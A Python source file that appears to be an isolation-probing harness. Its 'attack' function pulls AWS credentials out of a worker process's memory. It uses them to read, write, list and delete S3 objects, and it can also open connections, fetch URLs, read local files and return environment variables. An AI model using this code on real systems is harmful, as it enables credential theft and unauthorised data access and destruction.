"""A Function that tries what each row says. It answers with what it reached, or with who refused it."""

import gc
import json
import os
import socket
import urllib.error
import urllib.request


def attack(target):
    wanted, *values = json.loads(target)
    try:
        found = TRIES[wanted](*values)
        return "reached" if found is None else f"reached: {found}"
    except Exception as error:
        return f"refused: {type(error).__name__}: {error}"[:300]


def keys():
    """The storage options of the worker that runs this: a Function can read all that its process has."""
    for each in gc.get_objects():
        if type(each).__name__ == "Worker" and hasattr(type(each), "compute"):
            return each._storage
    raise LookupError("no worker has keys")


def store():
    from pyarrow import fs

    options = keys()
    return fs.S3FileSystem(
        access_key=options["aws_access_key_id"],
        secret_key=options["aws_secret_access_key"],
        session_token=options["aws_session_token"],
        endpoint_override=options["aws_endpoint"].split("://")[1],
        scheme="http",
        region=options["aws_region"],
    )


def read(path):
    with store().open_input_stream(path) as stream:
        stream.read(1)


def write(path):
    with store().open_output_stream(path) as stream:
        stream.write(b"attack")


def browse(path):
    from pyarrow import fs

    store().get_file_info(fs.FileSelector(path, recursive=True))


def connect(host, port):
    socket.create_connection((host, port), 4).close()


def ask(url):
    urllib.request.urlopen(url, timeout=4).close()


def file(path):
    with open(path, encoding="utf-8") as opened:
        return opened.read()


TRIES = {
    **{"read": read, "write": write, "list": browse, "connect": connect, "ask": ask, "file": file},
    "delete": lambda path: store().delete_file(path),
    "variable": lambda name: os.environ[name],
}
